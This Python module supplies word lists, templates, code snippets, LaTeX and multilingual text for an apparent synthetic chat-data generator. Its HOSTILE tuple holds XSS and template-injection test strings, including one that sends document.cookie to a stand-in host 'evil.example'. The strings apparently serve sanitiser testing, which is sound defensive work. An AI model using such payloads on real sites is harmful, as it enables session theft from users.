"""Word lists and templates for :mod:`parley.synth`.

Topics, sentence parts, questions and titles, plausible Markdown (lists, tables, links),
code snippets in several languages, LaTeX (``$...$``, ``$$...$$``, ``\\(...\\)``,
``\\[...\\]``), non-English text (CJK, Cyrillic, Arabic and Hebrew right-to-left, emoji),
hostile HTML and awkward Unicode. Plain constants only: :mod:`parley.synth.pools` turns
them into text blocks.
"""

TOPICS = (
    "Python async generators",
    "SQLAlchemy sessions",
    "Kubernetes ingress rules",
    "sourdough hydration",
    "the French Revolution",
    "Rust lifetimes",
    "PostgreSQL indexes",
    "React hooks",
    "a marathon training plan",
    "Bayesian statistics",
    "git rebase",
    "Docker multi-stage builds",
    "the Krebs cycle",
    "tax-advantaged savings accounts",
    "TypeScript generics",
    "a cover letter",
    "binary search trees",
    "CSS grid layouts",
    "the Roman Republic",
    "espresso extraction",
    "linear regression",
    "OAuth 2.0 flows",
    "a wedding toast",
    "Go channels",
    "Redis streams",
    "photosynthesis",
    "a D&D campaign",
    "Terraform modules",
    "the Fourier transform",
    "houseplant care",
    "bash scripting",
    "a job interview",
    "quantum entanglement",
    "the Byzantine Empire",
    "unit testing",
    "WebSockets",
    "a vegetarian meal plan",
    "compound interest",
    "regular expressions",
    "graph databases",
    "a birthday poem",
    "Spanish subjunctive",
    "Japanese particles",
    "electric guitar setup",
    "home network security",
    "the Pythagorean theorem",
    "climate models",
    "a product launch email",
    "Linux file permissions",
    "Big-O notation",
)
SUBJECTS = (
    "The function",
    "This approach",
    "The query planner",
    "Your configuration",
    "The cache",
    "A good rule of thumb",
    "The main difference",
    "The scheduler",
    "The recipe",
    "The first step",
    "The library",
    "This pattern",
    "The compiler",
    "The dataset",
    "Each request",
    "The model",
    "The historian",
    "The runtime",
    "The proof",
    "The server",
)
VERBS = (
    "handles",
    "avoids",
    "reduces",
    "splits",
    "returns",
    "caches",
    "validates",
    "explains",
    "depends on",
    "rewrites",
    "streams",
    "measures",
    "wraps",
    "computes",
    "schedules",
    "normalises",
    "refactors",
    "balances",
    "guarantees",
    "exposes",
)
ADJECTIVES = (
    "small",
    "explicit",
    "idempotent",
    "lazy",
    "robust",
    "expensive",
    "nested",
    "typed",
    "concurrent",
    "readable",
    "stable",
    "implicit",
    "fast",
    "portable",
    "deterministic",
    "elegant",
    "fragile",
    "verbose",
    "minimal",
    "predictable",
)
NOUNS = (
    "state",
    "edge cases",
    "the input",
    "memory usage",
    "the hot path",
    "each batch",
    "the error",
    "latency",
    "the boundaries",
    "dependencies",
    "the transaction",
    "side effects",
    "the schema",
    "network calls",
    "the iterator",
    "the timeline",
    "rounding errors",
    "permissions",
    "the heap",
    "every branch",
)
CLAUSES = (
    "which keeps the code easy to test",
    "so you rarely need a lock",
    "because the data never leaves the process",
    "which matters once the input grows",
    "so the result stays the same on every run",
    "which is why the docs recommend it",
    "unless you are on an older version",
    "and that is usually enough",
    "so the edge cases stay visible",
    "which makes debugging much easier",
    "as long as you measure first",
    "without changing the public interface",
)
OPENERS = (
    "Great question!",
    "Sure — here's a walkthrough.",
    "Short answer: yes, with caveats.",
    "Let's break it down step by step.",
    "Here's how I'd approach it.",
    "There are a few ways to do this.",
    "Good catch — the problem is subtle.",
    "Absolutely. Below is a complete example.",
    "It depends on what you optimise for.",
)
CLOSERS = (
    "Let me know if you want me to adapt this to your setup.",
    "Want a version with tests as well?",
    "Hope that helps! 🚀",
    "If you share the full traceback I can narrow it down further.",
    "I can also turn this into a checklist if that's useful.",
)
QUESTIONS = (
    "How do I get started with {t}?",
    "Can you explain {t} like I'm five?",
    "What's the difference between {t} and {u}?",
    "Why does my code about {t} fail?",
    "Give me three tips for {t}.",
    "Write a short summary of {t}.",
    "Is {t} worth learning in 2025?",
    "Compare {t} with {u} in a table.",
    "I'm stuck on {t}. Where should I look first?",
    "rewrite this but shorter: {t}",
    "what are common mistakes with {t}",
    "Make a study plan for {t} and {u}.",
    "Quick one: how does {t} actually work under the hood?",
    "Can you review my approach to {t}? I think I'm overcomplicating it.",
)
TITLE_TEMPLATES = (
    "{T} explained",
    "Help with {t}",
    "{T} vs {u}",
    "Questions about {t}",
    "{T} tips",
    "Debugging {t}",
    "{T} overview",
    "Learning {t}",
    "{T} 🤔",
    "Notes on {t}",
)
LANGUAGE_TITLES = (
    "Receta de paella",
    "Frage zu Steuern",
    "Résumé du livre",
    "東京旅行の計画",
    "学习计划",
    "한국어 문법 질문",
    "Вопрос про SQL",
    "سؤال عن البرمجة",
    "שאלה על מתמטיקה",
    "🎂 Birthday ideas",
)
FOREIGN = (
    "¿Puedes ayudarme a preparar una paella para seis personas?",
    "Kannst du mir erklären, wie die Steuererklärung in Deutschland funktioniert?",
    "Pourriez-vous résumer ce chapitre en trois phrases ?",
    "来週東京に行きます。おすすめの場所を教えてください。",
    "请帮我制定一个为期三个月的学习计划，每天两个小时。",
    "한국어에서 '-는데'와 '-지만'의 차이가 뭐예요?",
    "Как ускорить запрос с несколькими JOIN в PostgreSQL?",
    "كيف يمكنني تعلم البرمجة بلغة بايثون بسرعة؟",
    "איך פותרים משוואה ריבועית בשיטת השלמה לריבוע?",
    "Merci beaucoup ! C'est exactement ce qu'il me fallait. 🙏",
    "Olá! Você pode revisar este texto para mim? 😊",
    "नमस्ते! क्या आप मुझे हिंदी व्याकरण समझा सकते हैं?",
)
EMOJI = ("🙂", "🚀", "🔥", "✅", "🤔", "💡", "📈", "🐍", "👍🏽", "👩‍💻", "🇯🇵", "❤️")
URLS = (
    "https://docs.python.org/3/library/asyncio.html",
    "https://www.postgresql.org/docs/",
    "https://developer.mozilla.org/en-US/docs/Web/CSS/grid",
    "https://en.wikipedia.org/wiki/Fourier_transform",
    "https://kubernetes.io/docs/concepts/services-networking/ingress/",
    "https://doc.rust-lang.org/book/ch10-03-lifetime-syntax.html",
    "https://arxiv.org/abs/1706.03762",
    "https://www.bbc.com/news/science-environment",
    "https://github.com/python/cpython",
    "https://stackoverflow.com/questions/231767",
    "https://www.nature.com/articles/nature14539",
)
CODE = {
    "python": (
        'def {n}(items: list[int]) -> int:\n    """Sum the even items."""\n'
        "    total = 0\n    for item in items:\n        if item % 2 == 0:\n"
        "            total += item\n    return total\n\n\nprint({n}([1, 2, 3, 4]))"
    ),
    "javascript": (
        "async function {n}(url) {{\n  const res = await fetch(url);\n"
        "  if (!res.ok) throw new Error(`HTTP ${{res.status}}`);\n  return res.json();\n}}"
    ),
    "typescript": (
        "interface {N} {{\n  id: string;\n  tags: string[];\n}}\n\n"
        "export const {n} = (xs: {N}[]): Map<string, {N}> =>\n  new Map(xs.map((x) => [x.id, x]));"
    ),
    "rust": (
        "fn {n}<'a>(a: &'a str, b: &'a str) -> &'a str {{\n"
        "    if a.len() >= b.len() {{ a }} else {{ b }}\n}}"
    ),
    "go": (
        "func {n}(ch <-chan int) int {{\n\tsum := 0\n\tfor v := range ch {{\n"
        "\t\tsum += v\n\t}}\n\treturn sum\n}}"
    ),
    "sql": (
        "SELECT c.id, c.title, count(m.id) AS messages\nFROM conversations c\n"
        "JOIN messages m ON m.conversation_id = c.id\n"
        "WHERE c.created_at > now() - interval '30 days'\n"
        "GROUP BY c.id\nORDER BY messages DESC\nLIMIT 10;"
    ),
    "bash": (
        "#!/usr/bin/env bash\nset -euo pipefail\nfor f in *.log; do\n"
        '  gzip -9 "$f" && echo "compressed $f"\ndone'
    ),
    "json": '{{\n  "name": "{n}",\n  "version": "1.0.0",\n  "tags": ["demo", "test"]\n}}',
    "yaml": "services:\n  {n}:\n    image: postgres:16\n    environment:\n      PGDATA: /data",
    "html": '<div class="{n}">\n  <p>Hello &amp; welcome</p>\n  <button>Go</button>\n</div>',
    "cpp": (
        "#include <vector>\n\nint {n}(const std::vector<int>& v) {{\n"
        "  int s = 0;\n  for (int x : v) s += x;\n  return s;\n}}"
    ),
}
MATH = (
    "The identity $e^{{i\\pi}} + 1 = 0$ ties together five constants.",
    "$$\n\\int_0^\\infty e^{{-x^2}}\\,dx = \\frac{{\\sqrt{{\\pi}}}}{{2}}\n$$",
    "For a quadratic $ax^2 + bx + c = 0$ the roots are\n\n"
    "$$x = \\frac{{-b \\pm \\sqrt{{b^2 - 4ac}}}}{{2a}}$$",
    "The variance is \\(\\sigma^2 = \\mathbb{{E}}[(X - \\mu)^2]\\), and for {t} it grows linearly.",
    "\\[\n\\sum_{{k=1}}^{{n}} k = \\frac{{n(n+1)}}{{2}}\n\\]",
    "With learning rate $\\eta$ the update is "
    "$\\theta \\leftarrow \\theta - \\eta \\nabla L(\\theta)$.",
)
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1))",
    "<svg onload=alert(document.cookie)>",
    '<a href="',
    "<iframe src=\"javascript:alert('x')\"></iframe>",
    "\"'><script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "[x](JaVaScRiPt:alert(1)) and ![i](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<style>body{display:none}</style><b onmouseover=alert(1)>hover</b>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
)
UNICODE = (
    "Emoji: 😀 👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇦 👍🏿 🧑🏽‍🚀 — beyond the BMP: 𝕳𝖊𝖑𝖑𝖔 𝄞 🀄",
    "RTL: مرحبا بالعالم — שלום עולם — mixed \u200fעברית English עברית\u200f and "
    "\u202ereversed\u202c text",
    "CJK: 日本語のテキスト、中文文本、한국어 텍스트 and 𠜎𠜱𠝹 (rare Han)",
    "Combining: e\u0301 a\u0308 n\u0303 Z\u0351\u0352\u0353algo, "
    "zero-width: a\u200bb\u200dc, BOM: \ufeffx",
    "Math: ∀x∈ℝ: x² ≥ 0, ∑ᵢ aᵢ, ≠ ≈ ∞, and the replacement char \ufffd",
)
